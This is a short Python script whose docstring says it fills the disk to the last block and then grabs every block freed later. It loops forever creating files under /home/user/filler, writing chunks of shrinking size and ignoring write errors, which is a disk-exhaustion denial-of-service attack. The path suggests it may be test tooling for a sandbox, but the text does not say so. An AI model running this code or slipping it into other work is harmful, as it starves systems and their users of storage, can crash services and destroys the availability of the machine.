"""Fills the disk to the last block, and takes every block that becomes free from then on."""
import itertools
import os
import time

os.makedirs('/home/user/filler', exist_ok=True)
names = (f'/home/user/filler/{number}' for number in itertools.count())
while True:
    for size in (16 << 20, 1 << 20, 64 << 10, 4096, 1):
        try:
            for _ in range(100):
                fd = os.open(next(names), os.O_WRONLY | os.O_CREAT)
                try:
                    while os.write(fd, b'x' * size) == size and size > 4096:
                        pass
                finally:
                    os.close(fd)
        except OSError:
            pass
    time.sleep(0.005)
